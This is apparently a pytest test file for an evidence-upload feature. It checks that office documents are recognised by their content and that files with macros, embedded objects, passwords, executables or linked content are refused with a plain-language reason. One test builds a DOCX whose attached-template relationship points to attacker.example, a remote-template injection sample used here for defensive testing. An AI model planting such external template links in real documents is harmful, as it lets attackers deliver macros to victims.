"""Office documents as evidence: HWP, HWPX, DOCX, XLSX, PPTX and CSV, each recognised by its content (the
container and its main part, never the name); macros, OLE objects, links that fetch content and passwords are
refused with a reason in words; a note with commas in it is text."""
import hashlib

import pytest
import sqlalchemy as sa

from ipdesk.evidence.models import EvidenceFile
from ipdesk.extensions import db
from tests.evidence import office_samples as office
from tests.evidence.test_uploads import officer_case, stored_files, upload  # noqa: F401 (a fixture)

HWP = "application/x-hwp"
HWPX = "application/hwp+zip"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"


@pytest.mark.storage  # runs again on S3
@pytest.mark.parametrize("name, make, content_type, kind", [
    ("경위서.hwp", office.hwp, HWP, "한글 문서(HWP)"),
    ("경위서.hwpx", office.hwpx, HWPX, "한글 문서(HWPX)"),
    ("statement.docx", office.docx, DOCX, "Word 문서(DOCX)"),
    ("orders.xlsx", office.xlsx, XLSX, "Excel 통합 문서(XLSX)"),
    ("slides.pptx", office.pptx, PPTX, "PowerPoint 프레젠테이션(PPTX)"),
    ("orders.csv", lambda: "주문번호,상품,가격\n2026-1122,세럼,35000\n2026-1123,세럼,35000\n".encode(), "text/csv",
     "CSV 표"),
    ("note.csv", lambda: b"Seller, a reseller in Shenzhen, sells copies.\nSee the photos.\n", "text/plain",
     "텍스트 파일"),
    # the name says nothing: a Word document called .hwp is a Word document, an HWP called .pdf an HWP
    ("statement.hwp", office.docx, DOCX, "Word 문서(DOCX)"),
    ("scan.pdf", office.hwp, HWP, "한글 문서(HWP)"),
])
def test_documents_are_accepted_by_their_content(app, client, officer_case, name, make, content_type, kind):  # noqa: F811
    content = make()
    response = upload(client, officer_case, (name, content), kind="document", description="Statement")
    assert response.status_code == 302, response.get_data(as_text=True)[-1500:]
    file = db.session.scalar(sa.select(EvidenceFile))
    assert (file.content_type, file.original_name, file.size) == (content_type, name, len(content))
    assert file.sha256 == hashlib.sha256(content).hexdigest()
    page = client.get(f"/cases/{officer_case.id}", headers={"Accept-Language": "ko"}).get_data(as_text=True)
    assert kind in page and content_type not in page


@pytest.mark.db_independent  # refused by its content, before anything is written
@pytest.mark.parametrize("name, make, reason", [
    ("경위서.hwp", lambda: office.hwp(script=True), "macros"),
    ("경위서.hwp", lambda: office.hwp(ole_object=True), "objects embedded from other programs"),
    ("경위서.hwp", lambda: office.hwp(password=True), "protected by a password"),
    ("경위서.hwpx", lambda: office.hwpx(script=True), "macros"),
    ("statement.docx", office.docm, "macros"),
    ("statement.docx", office.docx_with_ole_object, "objects embedded from other programs"),
    ("statement.docx", office.encrypted_office, "protected by a password"),
    ("statement.doc", office.legacy_word, "older Word, Excel or PowerPoint file"),
    ("photos.zip", lambda: _zip({"a.jpg": b"x", "b.jpg": b"y"}), "a ZIP archive, not a document"),
    ("statement.docx", lambda: office.docx()[:2000], "damaged"),
])
def test_active_or_hidden_content_is_refused_with_a_reason_in_words(app, client, officer_case, name, make, reason):  # noqa: F811
    response = upload(client, officer_case, (name, make()), kind="document", description="Statement")
    assert response.status_code == 422
    text = response.get_data(as_text=True)
    assert f"The file {name} is refused: it" in text and reason in text
    assert "application/" not in text.split("<main", 1)[-1]  # never a MIME type
    assert db.session.scalar(sa.select(sa.func.count()).select_from(EvidenceFile)) == 0
    assert stored_files(app) == []  # nothing kept


def test_a_refused_kind_is_named_in_words(app, client, officer_case):  # noqa: F811
    response = upload(client, officer_case, ("tool.pdf", b"MZ\x90\x00\x03" + b"\x00" * 300), kind="document",
                      description="Statement")
    text = response.get_data(as_text=True)
    assert response.status_code == 422 and "it is a program" in text and "application/" not in text


@pytest.mark.storage  # runs again on S3
def test_a_linked_template_is_refused(app, client, officer_case):  # noqa: F811
    link = ('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>')
    data = office.docx()
    rels = "word/_rels/settings.xml.rels"
    content = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
               f'package/2006/relationships">{link}</Relationships>').encode()
    response = upload(client, officer_case, ("statement.docx", office._rezip(data, {rels: content})),
                      kind="document", description="Statement")
    assert response.status_code == 422 and "fetches content from outside the document" in response.get_data(
        as_text=True)


def _zip(files: dict[str, bytes]) -> bytes:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()
